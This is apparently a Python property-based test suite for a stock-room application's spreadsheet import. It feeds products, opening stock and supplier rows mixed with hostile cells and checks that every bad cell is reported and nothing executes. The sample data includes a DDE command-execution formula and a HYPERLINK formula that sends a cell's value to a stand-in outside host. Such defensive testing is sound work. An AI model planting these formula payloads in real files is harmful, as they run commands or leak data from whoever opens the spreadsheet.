"""Random workbooks of good rows and hostile cells, imported as products: nothing a cell holds is run, and the import
writes every good row it announced or, when any row has a problem, nothing at all.

Each generated row is built from cells whose verdict the test knows beforehand: a good cell with the value it must be
stored as, or a hostile one with the column it must be reported in. A good cell may still look dangerous (a name
``=HYPERLINK(...)`` held as text, a SKU in full-width letters or with a zero-width space in it, a quantity grouped
``1,234`` or in full-width digits). The properties:

* a workbook holding a real formula is refused naming its cell, never read for the value Excel cached;
* the problems name exactly the bad rows (with the row number as the spreadsheet shows it, and the column), never
  a good row;
* a file with problems writes nothing (the database file's tables are the same before and after); a file without
  them writes every row, each SKU, name and min level exactly as the cell said it;
* what was imported, exported again, is cells of values (never formulas) that read back as they were imported.
"""

from __future__ import annotations

import atexit
import os
import shutil
import tempfile
from dataclasses import dataclass
from dataclasses import field
from datetime import date
from datetime import datetime
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck
from hypothesis import example
from hypothesis import given
from hypothesis import settings
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy import text

from domain.imports import ImportRejected
from domain.imports import guess_mapping
from domain.imports import preview
from domain.imports import run_import
from domain.imports.cells import shortened
from domain.kernel.errors import BadInput
from persistence import tables as t
from persistence.db import open_database
from ui.spreadsheets import read_table
from ui.spreadsheets import write_xlsx

HEADERS = ["货号", "品名", "单位", "最低库存"]
# Reproducible on any machine; FUZZ_EXAMPLES=400 hunts longer, with random examples.
_HUNT = int(os.environ.get("FUZZ_EXAMPLES", "0"))
SETTINGS = settings(max_examples=_HUNT or 30, derandomize=not _HUNT, deadline=None,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])

_SCRATCH = "/dev/shm" if Path("/dev/shm").is_dir() else None
_templates: dict[str, Path] = {}


def template(name: str = "empty", setup=None) -> Path:
    """A migrated database (``setup(db)`` run on it once), made once per name and copied for each example."""
    if name not in _templates:
        folder = tempfile.mkdtemp(prefix="stockroom-import-props-", dir=_SCRATCH)
        atexit.register(shutil.rmtree, folder, True)
        path = Path(folder) / f"{name}.sqlite3"
        db = open_database(path)
        if setup is not None:
            setup(db)
        with db.engine.connect() as conn:
            conn.exec_driver_sql("PRAGMA wal_checkpoint(TRUNCATE)")
        db.close()
        _templates[name] = path
    return _templates[name]


@dataclass
class Cell:
    """A cell to write, and what the import must make of it: ``stored`` (a good cell) or a problem (``bad``)."""

    value: object
    stored: object = None
    bad: bool = False
    as_text: bool = False  # a text starting with = written as text, not as a formula


@dataclass
class Row:
    cells: list[Cell]
    duplicate_of: int | None = None  # index of the earlier row whose SKU this one repeats
    extra: dict = field(default_factory=dict)


def _full_width(text: str) -> str:
    return "".join(chr(ord(ch) + 0xFEE0) if "!" <= ch <= "~" else ch for ch in text)


plain_sku = st.from_regex(r"[A-Za-z0-9][A-Za-z0-9_.\-/]{0,11}", fullmatch=True)


@st.composite
def good_sku(draw) -> Cell:
    sku = draw(plain_sku)
    how = draw(st.sampled_from(["plain", "spaces", "zero_width", "full_width", "soft_hyphen", "bom"]))
    if how == "spaces":
        written = f"  {sku} "
    elif how in ("zero_width", "soft_hyphen", "bom"):
        mark = {"zero_width": "\u200b", "soft_hyphen": "\u00ad", "bom": "\ufeff"}[how]
        at = draw(st.integers(0, len(sku)))
        written = sku[:at] + mark + sku[at:]
    elif how == "full_width":
        written = _full_width(sku)
    else:
        written = sku
    return Cell(written, sku)


bad_sku = st.one_of(
    st.sampled_from(["", "   ", "A B", "=A1", "+12", "@SUM", "A\u202eB", "X" * 65, "1.23457E+11"]).map(
        lambda s: Cell(s, bad=True, as_text=s.startswith("="))),
    st.just(Cell(datetime(2026, 3, 1), bad=True)),  # a date cell where a code belongs
)

name_text = st.text(st.characters(categories=["L", "N", "P", "S", "Zs"]), min_size=1, max_size=30).filter(
    lambda s: s.strip() and not shortened(s.strip()))
dangerous_names = st.sampled_from(['=HYPERLINK("http://x.example/?"&A1,"click")', "=1+1", "+1+2", "-5 pack",
                                   "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "\t=1+1"])


@st.composite
def good_name(draw) -> Cell:
    name = draw(st.one_of(name_text, dangerous_names, st.just("长" * 200)))
    return Cell(name, name.strip(), as_text=True)


bad_name = st.sampled_from(["", "x" * 201, "a\u200bb", "a\u202eb", "6.90123E+12"]).map(lambda s: Cell(s, bad=True))


@st.composite
def good_level(draw) -> Cell:
    n = draw(st.integers(0, 10**9))
    places = draw(st.integers(0, 4))
    frac = draw(st.integers(0, 10**places - 1)) if places else 0
    value = Decimal(n) + Decimal(frac).scaleb(-places)
    plain = format(value, "f")
    how = draw(st.sampled_from(["blank", "number", "text", "grouped", "full_width", "plus", "half"]))
    if how == "blank":
        return Cell(None, None)
    if how == "number":
        return Cell(n, Decimal(n))
    if how == "half":
        return Cell(n + 0.5, Decimal(n) + Decimal("0.5"))  # exact as a float
    if how == "grouped":
        return Cell(f"{value:,f}", value)
    if how == "full_width":
        return Cell(_full_width(plain), value)
    if how == "plus":
        return Cell("+" + plain, value)
    return Cell(plain, value)


bad_level = st.sampled_from([-1, "-3", "¥12", "12元", "$5", "2,5", "1.23456", 10**12, "1000000000000", "2026-03-01",
                             datetime(2026, 3, 1), "abc", "1e3", "1,2,3", "NaN", "Infinity", "inf", "--1",
                             "1 000", "0x10", "12.5.1", "٣", "1²", "⑫", "1_000"]).map(lambda v: Cell(v, bad=True))


@st.composite
def rows(draw) -> list[Row]:
    n = draw(st.integers(1, 8))
    out: list[Row] = []
    for _ in range(n):
        dup = out and draw(st.integers(0, 5)) == 0
        if dup:
            j = draw(st.integers(0, len(out) - 1))
            first = out[j].cells[0]
            if first.bad:
                dup = False
        if dup:
            sku = first.stored
            variant = draw(st.sampled_from([sku.lower(), sku.upper(), _full_width(sku), f" {sku}"]))
            sku_cell = Cell(variant, bad=True)
        else:
            sku_cell = draw(st.one_of(good_sku(), good_sku(), good_sku(), bad_sku))
        name = draw(st.one_of(good_name(), good_name(), good_name(), bad_name))
        unit = Cell("kg", "kg")
        level = draw(st.one_of(good_level(), good_level(), good_level(), bad_level))
        out.append(Row([sku_cell, name, unit, level], duplicate_of=j if dup else None))
    # a SKU repeated by chance (not as a planned duplicate) is a duplicate too
    seen: dict[str, int] = {}
    for i, row in enumerate(out):
        cell = row.cells[0]
        if cell.bad:
            continue
        key = cell.stored.lower()
        if key in seen:
            cell.bad = True
        else:
            seen[key] = i
    return out


@dataclass
class Layout:
    title: bool  # a merged title row above the header
    cover: bool  # an empty cover sheet in front
    lookup: bool  # a hidden lookup sheet in front
    blank_after: int | None  # a blank row after this data row
    extra_sheet: bool  # another sheet after, with rows of its own


layouts = st.builds(Layout, st.booleans(), st.booleans(), st.booleans(), st.one_of(st.none(), st.integers(0, 7)),
                    st.booleans())


def write_workbook(path: Path, data: list[Row], layout: Layout, formula_at: int | None = None) -> dict[int, int]:
    """The workbook; returns the spreadsheet row number of each data row."""
    book = Workbook()
    ws = book.active
    if layout.lookup:
        ws.title = "代码表"
        ws.append(["SH", "上海仓"])
        ws.append(["BJ", "北京仓"])
        ws.sheet_state = "hidden"
        ws = book.create_sheet("商品")
    if layout.cover:
        book.move_sheet(book.create_sheet("封面"), -len(book.sheetnames) + 1)
    r = 1
    if layout.title:
        ws.cell(row=1, column=1, value="某某公司商品清单")
        ws.merge_cells("A1:D1")
        r = 2
    for col, header in enumerate(HEADERS, 1):
        ws.cell(row=r, column=col, value=header)
    numbers: dict[int, int] = {}
    for i, row in enumerate(data):
        r += 1
        numbers[i] = r
        for col, cell in enumerate(row.cells, 1):
            target = ws.cell(row=r, column=col, value=cell.value)
            if isinstance(cell.value, str) and cell.value.startswith("="):
                target.data_type = "s"  # text that looks like a formula: a text cell, as Excel keeps '=x
        if formula_at == i:
            ws.cell(row=r, column=4, value="=1+1")  # a real formula
        if layout.blank_after == i:
            r += 1
    if layout.extra_sheet:
        other = book.create_sheet("备注")
        other.append(["说明", "内容"])
        other.append(["=2+2", "后面的表不读"])
    book.save(path)
    return numbers


def dump(engine) -> dict[str, list[tuple]]:
    with engine.connect() as conn:
        names = [r[0] for r in conn.execute(text("SELECT name FROM sqlite_master WHERE type='table'"))]
        return {n: sorted(map(tuple, conn.execute(text(f'SELECT * FROM "{n}"')))) for n in names}


def imported_or_refused(db, kind: str, table, mapping: dict, expected_bad: set[tuple[int, str]],
                        headers: list[str], **options):
    """Preview, then import, the file whose bad cells (row number, column) are ``expected_bad``: the preview must
    name each of them and no good row; with any, the import is refused and the database is as it was (None);
    without, the import's result."""
    before = dump(db.engine)
    checked = preview(db.uow(), kind, table, mapping, **options)
    found = {(p.row, p.column) for p in checked.problems}
    assert expected_bad <= found, f"bad cells not reported: {sorted(expected_bad - found)}"
    assert {r for r, _ in found} <= {r for r, _ in expected_bad}, f"good rows reported: {sorted(found)}"
    assert all(p.column in headers and p.problem and p.accepted for p in checked.problems)
    if not expected_bad:
        result = run_import(db.uow(), kind, table, mapping, **options)
        assert result.added == checked.added
        return result
    with pytest.raises(ImportRejected) as rejected:
        run_import(db.uow(), kind, table, mapping, **options)
    assert {(p.row, p.column) for p in rejected.value.problems} == found
    assert dump(db.engine) == before, "a rejected import wrote something"
    return None


def hub_refusals(engine, spec_name: str) -> dict[str, str]:
    """Why the sync would refuse any record of ``spec_name`` as this desk holds it (it checks what it pushes as it
    checks what it pulls): what a file brought in must never be kept aside by every other desk."""
    from persistence.sync import records
    from persistence.sync.checks import check_record

    spec = next(s for s in records.SPECS if s.name == spec_name)
    with engine.connect() as conn:
        held = {key: check_record(spec, key, record) for key, record in records.read_records(conn, spec).items()}
    return {key: why for key, why in held.items() if why}


def _expected_products(data: list[Row]) -> dict[str, tuple[str, Decimal | None]]:
    return {row.cells[0].stored: (row.cells[1].stored, row.cells[3].stored) for row in data}


NO_LAYOUT = Layout(False, False, False, None, False)


def _one_row(level: object) -> list[Row]:
    return [Row([Cell("0", "0"), Cell("0", "0", as_text=True), Cell("kg", "kg"), Cell(level, bad=True)])]


@SETTINGS
@given(data=rows(), layout=layouts)
@example(data=_one_row("٣"), layout=NO_LAYOUT)  # an Arabic-Indic 3 was read as 3, a superscript 1² as 12
@example(data=_one_row("1²"), layout=NO_LAYOUT)
def test_a_workbook_of_good_and_hostile_rows_imports_all_of_it_or_nothing_and_names_every_bad_cell(
        data, layout, tmp_path_factory):
    folder = tmp_path_factory.mktemp("import")
    path = folder / "products.xlsx"
    numbers = write_workbook(path, data, layout)
    table = read_table(path)
    mapping = guess_mapping("products", table.headers)
    assert mapping == {"sku": "货号", "name": "品名", "unit": "单位", "min_level": "最低库存"}
    expected_bad = {(numbers[i], HEADERS[col]) for i, row in enumerate(data) for col, cell in enumerate(row.cells)
                    if cell.bad}
    shutil.copy(template(), folder / "db.sqlite3")
    db = open_database(folder / "db.sqlite3")
    try:
        result = imported_or_refused(db, "products", table, mapping, expected_bad, HEADERS)
        if result is None:
            return
        assert result.added == len(data)
        with db.engine.connect() as conn:
            stored = {r.sku: (r.name, r.min_level)
                      for r in conn.execute(select(t.products.c.sku, t.products.c.name, t.products.c.min_level))}
        assert stored == _expected_products(data)
        assert hub_refusals(db.engine, "products") == {}
    finally:
        db.close()
    # exported again: cells of values, never formulas, that read back as they were imported
    back = folder / "export.xlsx"
    write_xlsx(back, ["SKU", "Name"], sorted((sku, name) for sku, (name, _) in stored.items()))
    sheet = load_workbook(back).active
    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
    assert sorted((sku, name) for sku, name in read_table(back).rows) == sorted(
        (sku, name) for sku, (name, _) in stored.items())


@SETTINGS
@given(data=rows(), layout=layouts, at=st.integers(0, 7))
def test_a_workbook_with_a_real_formula_is_refused_naming_the_cell_and_never_read_for_its_value(data, layout, at,
                                                                                               tmp_path_factory):
    at = at % len(data)
    path = tmp_path_factory.mktemp("formula") / "products.xlsx"
    numbers = write_workbook(path, data, layout, formula_at=at)
    with pytest.raises(BadInput) as refused:
        read_table(path)
    assert f"D{numbers[at]}" in str(refused.value)


# Opening stock: the same kind of rows, posted to the ledger.

STOCK_HEADERS = ["货号", "仓库", "期初数量", "成本单价", "日期"]
PRODUCTS = {"P1": "kg", "P2": "pcs"}  # P2 is counted in whole units
WAREHOUSES = ["W1", "W2"]


def _stock_shop(db) -> None:
    from domain.catalog import commands as cc
    from domain.catalog import master as catalog

    for sku, unit in PRODUCTS.items():
        catalog.add_product(db.uow(), cc.AddProduct(sku, f"商品 {sku}", unit=unit))
    for code in WAREHOUSES:
        catalog.add_warehouse(db.uow(), cc.AddWarehouse(code, f"仓库 {code}"))


@st.composite
def stock_sku(draw) -> Cell:
    sku = draw(st.sampled_from(sorted(PRODUCTS)))
    written = draw(st.sampled_from([sku, sku.lower(), _full_width(sku), f" {sku}\u200b"]))
    return Cell(written, sku)


bad_stock_sku = st.sampled_from(["X9", "", "P 1", "=P1"]).map(lambda s: Cell(s, bad=True))


@st.composite
def stock_warehouse(draw) -> Cell:
    code = draw(st.sampled_from(WAREHOUSES))
    return Cell(draw(st.sampled_from([code, code.lower(), _full_width(code)])), code)


bad_warehouse = st.sampled_from(["", "W9", "W 1"]).map(lambda s: Cell(s, bad=True))  # "": two warehouses


@st.composite
def stock_qty(draw) -> Cell:
    cell = draw(good_level())
    return cell if cell.stored is not None else Cell("0", Decimal(0))


costs = st.sampled_from([("0", "0"), ("3.5", "3.5"), ("1,200.50", "1200.50"), ("０．０７", "0.07"),
                         ("3.33333333", "3.33333333"), (19.99, "19.99")]).map(lambda c: Cell(c[0], Decimal(c[1])))
bad_cost = st.sampled_from(["-1", "¥3", "3.123456789", "abc", "", "1e2", "3²"]).map(lambda s: Cell(s, bad=True))


@st.composite
def stock_day(draw) -> Cell:
    day = date(2025, 1, 1) + timedelta(days=draw(st.integers(0, 300)))
    how = draw(st.sampled_from(["iso", "slash", "chinese", "cell", "compact"]))
    written = {"iso": day.isoformat(), "slash": f"{day.year}/{day.month}/{day.day}",
               "chinese": f"{day.year}年{day.month}月{day.day}日", "compact": day.strftime("%Y%m%d"),
               "cell": datetime(day.year, day.month, day.day)}[how]
    return Cell(written, day)


bad_day = st.sampled_from(["2025-02-30", "2025-13-01", "昨天", "1969-12-31", "2999-01-01", "45000"]).map(
    lambda s: Cell(s, bad=True))


@st.composite
def stock_rows(draw) -> list[Row]:
    out: list[Row] = []
    pairs: set[tuple[str, str]] = set()
    for _ in range(draw(st.integers(1, 6))):
        sku = draw(st.one_of(stock_sku(), stock_sku(), stock_sku(), bad_stock_sku))
        wh = draw(st.one_of(stock_warehouse(), stock_warehouse(), stock_warehouse(), bad_warehouse))
        qty = draw(st.one_of(stock_qty(), stock_qty(), stock_qty(), bad_level))
        cost = draw(st.one_of(costs, costs, costs, bad_cost))
        day = draw(st.one_of(stock_day(), stock_day(), stock_day(), bad_day))
        row = Row([sku, wh, qty, cost, day])
        if not qty.bad and sku.stored == "P2" and qty.stored != qty.stored.to_integral_value():
            qty.bad = True  # a fraction of a product counted in whole units
        if not sku.bad and not wh.bad:
            if (sku.stored, wh.stored) in pairs:
                sku.bad = True  # the pair again: one opening stock per product and warehouse
            pairs.add((sku.stored, wh.stored))
        out.append(row)
    return out


def write_rows(path: Path, headers: list[str], data: list[Row]) -> dict[int, int]:
    """A workbook of ``headers`` over ``data``; returns the spreadsheet row number of each data row."""
    book = Workbook()
    ws = book.active
    ws.append(headers)
    for row in data:
        ws.append([c.value for c in row.cells])
        for cell in ws[ws.max_row]:
            if isinstance(cell.value, str) and cell.value.startswith("="):
                cell.data_type = "s"  # text that looks like a formula: a text cell
    book.save(path)
    return {i: i + 2 for i in range(len(data))}


@SETTINGS
@given(data=stock_rows())
@example(data=[Row([Cell("P1", "P1"), Cell("W1", "W1"), Cell("5", Decimal(5)), Cell("2", Decimal(2)),
                    Cell("2025-03-01", date(2025, 3, 1))])])  # was posted again as 2025/3/1
def test_opening_stock_of_good_and_hostile_rows_posts_every_row_exactly_or_nothing_and_once(data, tmp_path_factory):
    from domain.kernel.numbers import round_money
    from persistence.stock import queries

    folder = tmp_path_factory.mktemp("stock")
    numbers = write_rows(folder / "stock.xlsx", STOCK_HEADERS, data)
    table = read_table(folder / "stock.xlsx")
    mapping = guess_mapping("stock", table.headers)
    assert set(mapping) == {"sku", "warehouse", "qty", "unit_cost", "date"}
    expected_bad = {(numbers[i], STOCK_HEADERS[col]) for i, row in enumerate(data) for col, cell in enumerate(row.cells)
                    if cell.bad}
    shutil.copy(template("stock", _stock_shop), folder / "db.sqlite3")
    db = open_database(folder / "db.sqlite3")
    try:
        if imported_or_refused(db, "stock", table, mapping, expected_bad, STOCK_HEADERS,
                               today=date(2026, 1, 1)) is None:
            return
        stock = {(r.sku, r.warehouse): (r.on_hand, r.value) for r in queries.stock(db.engine)}
        wanted = {(row.cells[0].stored, row.cells[1].stored): (row.cells[2].stored,
                                                               round_money(row.cells[2].stored * row.cells[3].stored))
                  for row in data if row.cells[2].stored}
        assert stock == wanted
        assert queries.check(db.engine) == []
        posted = dump(db.engine)
        again = run_import(db.uow(), "stock", table, mapping)  # the same file again posts nothing
        assert again.added == 0 and dump(db.engine) == posted
        # nor does it re-saved by Excel, its dates written another way (a CSV of the workbook: 2025/3/1)
        resaved = [Row([*row.cells[:4], Cell(f"{row.cells[4].stored:%Y/%-m/%-d}", row.cells[4].stored)])
                   for row in data]
        write_rows(folder / "resaved.xlsx", STOCK_HEADERS, resaved)
        table = read_table(folder / "resaved.xlsx")
        again = run_import(db.uow(), "stock", table, guess_mapping("stock", table.headers))
        assert again.added == 0 and dump(db.engine) == posted, "the same opening stock was posted twice"
    finally:
        db.close()


def test_opening_stock_imported_before_the_day_counted_for_its_ref_is_still_known_as_imported(tmp_path):
    """A file imported when the ref was made from the date as written (2025/3/1) is not posted again."""
    from domain.imports.stock import SOURCE_TYPE
    from domain.imports.stock import STOCK_REF
    from domain.imports.stock import row_ref
    from domain.stock import commands as sc
    from domain.stock import ledger

    shutil.copy(template("stock", _stock_shop), tmp_path / "db.sqlite3")
    db = open_database(tmp_path / "db.sqlite3")
    try:
        legacy = row_ref(STOCK_REF, ("stock", "P1", "W1", "5", "2", "2025/3/1"), 0)
        ledger.receive(db.uow(), sc.ReceiveStock("P1", "5", "W1", "2", legacy, datetime(2025, 3, 1),
                                                 "opening stock", SOURCE_TYPE))
        before = dump(db.engine)
        (tmp_path / "stock.csv").write_text("货号,仓库,期初数量,成本单价,日期\nP1,W1,5,2,2025/3/1\n", encoding="utf-8")
        table = read_table(tmp_path / "stock.csv")
        again = run_import(db.uow(), "stock", table, guess_mapping("stock", table.headers))
        assert (again.added, again.unchanged) == (0, 1) and dump(db.engine) == before
    finally:
        db.close()


# Suppliers: codes, names, contacts, currencies, lead times and addresses in several lines.

SUPPLIER_HEADERS = ["供应商编码", "供应商名称", "联系人", "币种", "交期", "地址"]


good_contact = st.one_of(name_text.map(lambda s: Cell(s, s.strip())),
                         st.sampled_from(["+86 138 0000 0000", "=1+1", "-", "@张三"]).map(lambda s: Cell(s, s)),
                         st.just(Cell(None, "")))
bad_contact = st.sampled_from(["x" * 201, "a\u202eb", "a\u200bb"]).map(lambda s: Cell(s, bad=True))
good_currency = st.sampled_from([("CNY", "CNY"), ("usd", "USD"), ("ＥＵＲ", "EUR"), (None, "CNY"),
                                 (" jpy ", "JPY")]).map(lambda c: Cell(c[0], c[1]))
bad_currency = st.sampled_from(["人民币", "US", "USDX", "ÄÖÜ", "aß", "1AB", "U S"]).map(lambda s: Cell(s, bad=True))
good_lead = st.one_of(st.integers(0, 3650).map(lambda n: Cell(n, n)),
                      st.integers(0, 3650).map(lambda n: Cell(str(n), n)), st.just(Cell(None, 7)),
                      st.just(Cell("１４", 14)))
bad_lead = st.sampled_from([-1, "3.5", 3651, "1_0", "abc", "7天", "1e2", "١٤"]).map(lambda s: Cell(s, bad=True))
good_address = st.sampled_from([("上海市\n浦东新区 88 号", "上海市\n浦东新区 88 号"), (" 北京 ", "北京"), (None, ""),
                                ("Line 1\r\nLine 2", "Line 1\nLine 2"), ("长" * 500, "长" * 500)]).map(
    lambda c: Cell(c[0], c[1]))
bad_address = st.sampled_from(["长" * 501, "a\u202eb"]).map(lambda s: Cell(s, bad=True))


@st.composite
def supplier_rows(draw) -> list[Row]:
    out: list[Row] = []
    seen: set[str] = set()
    for _ in range(draw(st.integers(1, 6))):
        cells = [draw(st.one_of(good_sku(), good_sku(), good_sku(), bad_sku)),
                 draw(st.one_of(good_name(), good_name(), bad_name)),
                 draw(st.one_of(good_contact, good_contact, bad_contact)),
                 draw(st.one_of(good_currency, good_currency, bad_currency)),
                 draw(st.one_of(good_lead, good_lead, bad_lead)),
                 draw(st.one_of(good_address, good_address, bad_address))]
        code = cells[0]
        if not code.bad:
            if len(code.stored) > 32:
                code.bad = True
            elif code.stored.lower() in seen:
                code.bad = True  # the same supplier twice
            else:
                seen.add(code.stored.lower())
        out.append(Row(cells))
    return out


@SETTINGS
@given(data=supplier_rows())
@example(data=[Row([Cell("S1", "S1"), Cell("甲", "甲", as_text=True), Cell(None, ""), Cell("人民币", bad=True),
                    Cell(None, 7), Cell(None, "")])])  # kept here, then refused by the hub
def test_suppliers_of_good_and_hostile_rows_import_exactly_or_not_at_all_and_the_hub_takes_them(data, tmp_path_factory):
    folder = tmp_path_factory.mktemp("suppliers")
    write_rows(folder / "suppliers.xlsx", SUPPLIER_HEADERS, data)
    table = read_table(folder / "suppliers.xlsx")
    mapping = guess_mapping("suppliers", table.headers)
    assert set(mapping) == {"code", "name", "contact", "currency", "lead_time", "address"}
    expected_bad = {(i + 2, SUPPLIER_HEADERS[col]) for i, row in enumerate(data) for col, cell in enumerate(row.cells)
                    if cell.bad}
    shutil.copy(template(), folder / "db.sqlite3")
    db = open_database(folder / "db.sqlite3")
    try:
        if imported_or_refused(db, "suppliers", table, mapping, expected_bad, SUPPLIER_HEADERS) is None:
            return
        s = t.suppliers.c
        with db.engine.connect() as conn:
            stored = {tuple(r)[0]: tuple(r)[1:] for r in conn.execute(select(s.code, s.name, s.contact, s.currency,
                                                                             s.lead_time_days, s.address))}
        assert stored == {row.cells[0].stored: tuple(c.stored for c in row.cells[1:]) for row in data}
        assert hub_refusals(db.engine, "suppliers") == {}
    finally:
        db.close()
